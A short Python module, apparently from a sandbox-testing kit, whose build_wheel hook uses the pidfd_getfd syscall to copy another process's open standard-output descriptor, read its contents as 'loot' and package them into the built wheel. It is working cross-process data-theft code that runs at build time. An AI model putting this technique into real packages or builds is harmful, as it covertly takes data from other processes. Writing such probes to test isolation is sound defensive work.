"""Copies the standard output of a planted process, which is an open file, and reads it.

The file may have no name any more, and its mode does not matter: whoever may trace a
process may take what it has open, since Linux 5.6.
"""

import os

import calls
import kit

PIDFD_GETFD = 438  # the same on every architecture


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    loot = {}
    with kit.attempt("take"):
        holder = os.pidfd_open(kit.callable_pid("holder"))
        copy = calls.syscall(PIDFD_GETFD, holder, 1, 0)
        loot["data.bin"] = os.pread(copy, 4096, 0)
    return kit.wheel(wheel_directory, loot)
